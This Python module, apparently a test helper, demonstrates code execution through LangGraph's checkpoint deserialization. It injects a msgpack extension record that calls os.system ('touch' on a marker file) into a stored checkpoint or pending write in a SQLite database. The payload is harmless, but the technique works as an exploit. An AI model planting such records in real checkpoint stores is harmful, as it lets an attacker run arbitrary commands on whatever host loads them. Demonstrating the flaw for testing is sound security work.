"""Patch a real checkpoints.sqlite the way an attacker would: a stored object that calls os.system.

LangGraph's msgpack format stores an object as an extension record (module, name, args) that the
permissive reader rebuilds with getattr(import_module(module), name)(*args); so the record
("os", "system", ["touch MARKER"]) runs a shell command when the checkpoint is read.
"""

from __future__ import annotations

import shlex
import sqlite3
from pathlib import Path

import ormsgpack
from langgraph.checkpoint.serde.jsonplus import EXT_CONSTRUCTOR_POS_ARGS

_OPT = ormsgpack.OPT_NON_STR_KEYS


def shell_call(marker: Path) -> ormsgpack.Ext:
    return ormsgpack.Ext(EXT_CONSTRUCTOR_POS_ARGS, ormsgpack.packb(["os", "system", [f"touch {shlex.quote(str(marker))}"]]))


def _keep_ext(code: int, data: bytes) -> ormsgpack.Ext:
    return ormsgpack.Ext(code, data)


def patch_latest_checkpoint(path: Path, thread: str, marker: Path) -> None:
    """Put the shell call into the channel values of `thread`'s latest checkpoint."""
    with sqlite3.connect(path) as db:
        cid, blob = db.execute(
            "SELECT checkpoint_id, checkpoint FROM checkpoints WHERE thread_id = ? ORDER BY checkpoint_id DESC LIMIT 1",
            (thread,)).fetchone()
        checkpoint = ormsgpack.unpackb(blob, ext_hook=_keep_ext, option=_OPT)
        checkpoint["channel_values"]["reason"] = shell_call(marker)
        db.execute("UPDATE checkpoints SET checkpoint = ? WHERE thread_id = ? AND checkpoint_id = ?",
                   (ormsgpack.packb(checkpoint, option=_OPT), thread, cid))


def patch_a_pending_write(path: Path, marker: Path) -> None:
    """Turn one stored pending write into the shell call."""
    with sqlite3.connect(path) as db:
        rowid = db.execute("SELECT rowid FROM writes WHERE type = 'msgpack' LIMIT 1").fetchone()[0]
        db.execute("UPDATE writes SET value = ? WHERE rowid = ?", (ormsgpack.packb(shell_call(marker)), rowid))
